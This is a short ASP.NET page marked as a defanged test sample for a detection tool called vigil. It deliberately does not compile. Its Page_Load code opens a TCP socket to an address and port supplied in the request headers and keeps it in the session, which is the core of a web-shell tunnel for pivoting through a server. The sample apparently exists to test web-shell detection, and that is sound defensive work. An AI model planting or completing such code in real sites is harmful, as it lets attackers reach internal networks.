<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<script runat="server">
void Page_Load() {
	Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
	s.Connect(new IPEndPoint(IPAddress.Parse(Request.Headers["X-TARGET"]), int.Parse(Request.Headers["X-PORT"])));
	Session["s"] = s;
}
</script>
